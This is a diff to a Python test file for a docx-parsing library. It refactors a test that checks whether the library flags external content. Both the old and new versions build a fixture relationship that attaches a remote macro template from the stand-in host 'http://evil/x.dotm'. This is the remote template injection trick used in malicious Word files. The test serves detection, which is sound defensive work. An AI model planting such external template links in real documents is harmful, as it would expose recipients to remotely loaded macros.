@@ -8,8 +8,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from reportgen.errors import NotADocx
-from reportgen.ooxml import open_package, write_archive
+from reportgen.ooxml import Relationship, open_package, write_archive
 from reportgen.ooxml.members import Bounds
+from reportgen.ooxml.namespaces import relationship_type
+from reportgen.ooxml.relationships import write_relationships
 from tests.documents import archive, docx, parts_of, text_of
 
 
@@ -157,10 +159,8 @@ def test_whatever_is_damaged_is_opened_or_refused_by_name(at, noise):
 
 
 def test_content_from_outside_the_file_is_pointed_out():
-    rels = (
-        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        b'<Relationship Id="rId1" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-        b'Target="http://evil/x.dotm"/></Relationships>'
+    rels = write_relationships(
+        [Relationship("rId1", relationship_type("attachedTemplate"), "http://evil/x.dotm", True)], "word/settings.xml"
     )
     package = open_package(docx("a", links={"rId9": "https://a.cn"}, parts={"word/_rels/settings.xml.rels": rels}), "a.docx")
     assert [finding.message("zh") for finding in package.findings] == [
